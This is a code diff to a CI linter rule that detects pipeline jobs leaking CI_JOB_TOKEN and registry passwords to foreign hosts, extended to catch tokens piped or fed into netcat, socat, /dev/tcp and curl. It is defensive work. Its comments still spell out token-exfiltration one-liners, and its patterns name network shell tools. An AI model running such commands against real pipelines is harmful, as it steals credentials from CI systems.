@@ -49,6 +49,7 @@ export const jobTokenLeaves = defineRule({
         // the commands in a text of commands come by themselves
         const named = command.runsText ? [] : command.words.filter((word) => tokenOf(word) !== null);
         if (named.length > 0) yield* sent(job, command, named, isForeign, context);
+        yield* fed(job, command, isForeign, context);
         yield* written(job, command, named, isForeign, context);
       }
     }
@@ -59,9 +60,16 @@ export const jobTokenLeaves = defineRule({
 const TOKENS = ['CI_JOB_TOKEN', 'CI_REGISTRY_PASSWORD', 'CI_DEPENDENCY_PROXY_PASSWORD'];
 const TOKEN = /\$\{?(CI_JOB_TOKEN|CI_REGISTRY_PASSWORD|CI_DEPENDENCY_PROXY_PASSWORD)\b/;
 
-const suspects = commandsThat(({ words, hereDocuments }) => {
-  return hereDocuments.length > 0 || words.some((word) => tokenOf(word) !== null);
+const suspects = commandsThat((command) => {
+  return command.hereDocuments.length > 0 || [...command.words, ...inputWords(command)].some(holdsToken);
 });
+
+const holdsToken = (word: CommandWord) => tokenOf(word) !== null;
+
+/** Of commands whose output it reads. */
+function inputWords({ from }: JobCommand): readonly CommandWord[] {
+  return from.flatMap(({ words }) => words);
+}
 
 type IsForeign = (host: string) => boolean;
 
@@ -83,12 +91,60 @@ function* sent(
       yield hit(job, word.at, 'address', { value, host }).because(...word.from);
       return;
     }
-    const target = isDownload(command) ? targetOf(command) : loginHost(command);
+    const target = isDownload(command) ? targetOf(command) : receiverOf(command);
     if (target === null || !isForeign(target)) continue;
-    const message = isDownload(command) ? 'sent' : 'login';
+    const message = isLogin(command) ? 'login' : 'sent';
     yield hit(job, word.at, message, { program: command.name, value, host: target }).because(...word.from);
     return;
   }
+}
+
+/** `echo $CI_JOB_TOKEN | nc host 80`, `nc host 80 <<< $CI_JOB_TOKEN`, `… | curl -d @- https://host`. */
+function* fed(job: Job, command: JobCommand, isForeign: IsForeign, { hit }: Context): Iterable<HitDraft> {
+  const host = isDownload(command) ? (sendsInput(command) ? targetOf(command) : null) : receiverOf(command);
+  if (host === null || !isForeign(host) || command.runsText) return;
+  const message = isLogin(command) ? 'login' : 'sent';
+  const word = inputWords(command).find(holdsToken);
+  if (word) {
+    const values = { program: command.name, value: `$${tokenOf(word)}`, host };
+    yield hit(job, word.at, message, values).because(...word.from);
+  }
+  for (const document of command.hereDocuments) {
+    const token = document.quoted ? null : TOKEN.exec(document.text);
+    if (!token) continue;
+    const at = document.locate({ start: token.index, end: token.index + token[0].length });
+    yield hit(job, at, message, { program: command.name, value: `$${token[1]}`, host });
+  }
+}
+
+const INPUT = /^(?:[\w.-]+=)?@-$|^--(?:post-file|body-file|upload-file)=-$/;
+
+function sendsInput({ words }: JobCommand): boolean {
+  return words.some(
+    ({ text }, index) =>
+      INPUT.test(text) || (text === '-' && /^-T$|^--upload-file$/.test(words[index - 1]?.text ?? '')),
+  );
+}
+
+/** Where something else than a web client sends what it reads, or logs in. */
+function receiverOf(command: JobCommand): string | null {
+  return socketHost(command) ?? loginHost(command);
+}
+
+const NETCAT = /^(?:nc|ncat|netcat|telnet)$/;
+const SOCKET = /^\/dev\/(?:tcp|udp)\/([\w.-]+)\//;
+const SOCAT = /^(?:tcp|udp|ssl|openssl)[46]?(?:-connect)?:([\w.-]+):/i;
+
+/** `nc host 80`, `socat - TCP:host:80`, `> /dev/tcp/host/80`. */
+function socketHost({ name, words, writesTo }: JobCommand): string | null {
+  const socket = writesTo.flatMap(({ text }) => SOCKET.exec(text)?.[1] ?? []);
+  if (socket[0] !== undefined) return socket[0].toLowerCase();
+  const texts = words.slice(1).map(({ text }) => text);
+  if (name === 'socat') return texts.flatMap((text) => SOCAT.exec(text)?.[1] ?? [])[0]?.toLowerCase() ?? null;
+  if (!NETCAT.test(name)) return null;
+  return (
+    texts.find((text) => /^[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(text) && /[a-z]/i.test(text))?.toLowerCase() ?? null
+  );
 }
 
 /** An address that holds the token itself; netrc names the host in words. */
@@ -112,6 +168,10 @@ function targetOf({ words }: JobCommand): string | null {
 const CLIENTS = new Set(['docker', 'podman', 'buildah', 'skopeo', 'nerdctl', 'crane', 'oras', 'helm', 'regctl']);
 const LOGIN_VALUES =
   /^(?:-u|-p|--username|--password|--authfile|--cert-dir|--tlscacert|--config|--registry-config|-H|--host|-c|--context|-l|--log-level)$/;
+
+function isLogin(command: JobCommand): boolean {
+  return !isDownload(command) && socketHost(command) === null;
+}
 
 /** Of `docker login`; without a host it is Docker Hub's. */
 function loginHost({ name, words }: JobCommand): string | null {
